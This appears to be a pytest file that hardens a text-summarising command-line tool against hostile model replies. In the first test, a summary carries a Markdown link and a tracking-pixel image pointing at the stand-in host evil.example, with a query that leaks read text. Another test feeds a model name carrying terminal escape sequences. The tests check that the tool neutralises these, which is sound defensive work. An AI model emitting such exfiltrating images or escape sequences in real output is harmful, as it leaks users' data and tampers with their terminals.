"""What a hostile reply could make the command line's outputs do, found from the
outside (the twenty-second adversarial reading), through the real command line.
(docs/hardening.md lists them.)"""

from __future__ import annotations

import copy
import json
from pathlib import Path

from conftest import EXAMPLES
from fakeserver import FakeOpenAI, chat_auto
from runner import run
from support import GOOD_DRAFT, corpus, ids_of, model_env

from communique.export.text import to_markdown
from communique.schema import Analysis

BRIEF = str(EXAMPLES / "rabat-madrid-fr.txt")


def test_a_link_or_an_image_a_model_writes_is_inert_in_markdown(
    fake_openai: FakeOpenAI, tmp_path: Path
) -> None:
    """A summary with a Markdown image (which a renderer fetches on opening the card: the
    address can carry what the model read) and a link. Was: copied as they were, live in
    any Markdown viewer; raw HTML was already escaped. (The text holds the addresses: a
    summary that writes one the text does not hold is dropped since the twenty-eighth
    reading, `backends/test_faults28.py`.) Since the fifty-eighth, a summary that writes
    markup fails its checks and code writes the summaries; the card escapes what any
    summary holds all the same (the second half: the record as the card receives it)."""
    page = tmp_path / "page.txt"
    page.write_text(
        Path(BRIEF).read_text(encoding="utf-8")
        + "\nVoir http://evil.example/ et http://evil.example/pixel?q=Laftit pour les photos.\n",
        encoding="utf-8",
    )
    draft = copy.deepcopy(GOOD_DRAFT)
    linked = (
        "On Tuesday in Rabat, Abdelouafi Laftit met [Fernando Grande-Marlaska](http://evil.example/) "
        "on migration. ![](http://evil.example/pixel?q=Laftit) \\[escaped\\](x)"
    )
    draft["summary"]["en"] = linked
    fake_openai.responder = lambda request: chat_auto(draft)
    result = run(
        "summarise",
        str(page),
        "-f",
        "json",
        "--no-cache",
        env=model_env(fake_openai, COMMUNIQUE_MODE="tools"),
    )
    assert result.returncode == 0, result.stderr
    record = Analysis.model_validate_json(result.stdout)
    assert record.summary is not None and "evil.example" not in record.summary.en
    card = to_markdown(
        record.model_copy(update={"summary": record.summary.model_copy(update={"en": linked})})
    )
    assert "](http" not in card.replace("\\](http", "")  # every bracket before an address escaped
    assert "\\[Fernando Grande-Marlaska\\](http://evil.example/)" in card
    assert "!\\[\\](http://evil.example/pixel?q=Laftit)" in card
    assert "\\\\\\[escaped\\\\\\](x)" in card  # a backslash of the text cannot undo the escape
    assert "**EN.**" in card and "# " in card  # the card's own Markdown is untouched


def test_resume_never_empties_an_errors_file_that_holds_something_else(
    fake_openai: FakeOpenAI, tmp_path: Path
) -> None:
    """`--resume` renews the list of failures of the run it goes on with. Was: any file
    named by `--errors` emptied without `--force` (`-o` is kept by `--resume`; `--errors`
    without it is refused when it exists)."""
    ids = corpus(tmp_path / "briefs", 3)
    fake_openai.responder = lambda request: chat_auto(GOOD_DRAFT)
    out, errors = tmp_path / "out.jsonl", tmp_path / "notes.txt"
    errors.write_text("my notes on the briefs, no trailing line break")
    args = ("summarise", str(tmp_path / "briefs"), "-o", str(out), "--errors", str(errors), "--resume")
    environment = model_env(fake_openai, COMMUNIQUE_MODE="tools")
    result = run(*args, env=environment)
    assert result.returncode == 3 and "Traceback" not in result.stderr
    assert result.stderr == (
        f"communique: error: {errors} exists and is not a list of failures communique wrote; "
        "use --force to overwrite it\n"
    )
    assert errors.read_text() == "my notes on the briefs, no trailing line break" and not out.exists()
    assert not fake_openai.chat_requests  # refused before any work

    # the failures an earlier run wrote (its last line cut by a kill) are renewed
    errors.write_text(
        json.dumps({"id": "brief-001", "input": "x", "status": "failed", "reason": "r"}) + '\n{"id": "bri'
    )
    result = run(*args, env=environment)
    assert result.returncode == 0, result.stderr
    assert sorted(ids_of(out)) == ids and errors.read_text() == ""

    errors.write_text("notes again\n")  # and --force is the user's word
    result = run(*args, "--force", env=environment)
    assert result.returncode == 0, result.stderr
    assert errors.read_text() == "" and sorted(ids_of(out)) == ids


def test_the_model_name_an_endpoint_gives_is_kept_without_sequences_and_inert(
    fake_openai: FakeOpenAI,
) -> None:
    """The `model` of a reply is the endpoint's word, shown in provenance and the card's
    footer. Was: a window-title sequence left as `]0;pwned` and `[31m`, and an image in
    it live in the Markdown footer."""
    for served, kept in (
        ("gpt\x1b]0;pwned\x07-4o\x1b[31m", "gpt-4o"),
        ("gpt ![](http://evil.example/x.png)", "gpt ![](http://evil.example/x.png)"),
    ):
        fake_openai.responder = lambda request, served=served: chat_auto(GOOD_DRAFT, model=served)
        environment = model_env(fake_openai, COMMUNIQUE_MODE="tools")
        record = run("summarise", BRIEF, "--no-cache", env=environment)
        assert record.returncode == 0, record.stderr
        assert json.loads(record.stdout)["provenance"]["model"] == kept
        card = run("summarise", BRIEF, "-f", "md", "--no-cache", env=environment).stdout
        assert "\x1b" not in card and "](http" not in card.replace("\\](http", "")
        assert "made by communique" in card


def test_a_reply_of_hundreds_of_invented_encounters_is_said_in_a_line_of_bounded_length(
    fake_openai: FakeOpenAI,
) -> None:
    """Was: `communique: repaired: …` naming each of the 400 dropped outcomes, one line of
    40 KB on the terminal; `--errors FILE` keeps the reason whole."""
    meeting = GOOD_DRAFT["meetings"][0]
    draft = {**GOOD_DRAFT, "meetings": [
        {**meeting, "outcomes": [{"type": "other", "text": f"an outcome the text never had, number {n}"}]}
        for n in range(400)]}  # fmt: skip
    fake_openai.responder = lambda request: chat_auto(draft)
    environment = model_env(fake_openai, COMMUNIQUE_MODE="tools")
    result = run("summarise", BRIEF, "--no-cache", env=environment)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    [line] = result.stderr.splitlines()
    assert line.startswith("communique: repaired: ") and len(line) < 1300, len(line)
    assert line.endswith(" more (--errors FILE keeps them all)")
    provenance = json.loads(result.stdout)["provenance"]
    assert len(provenance["repairs"]) >= 400  # the record keeps every one
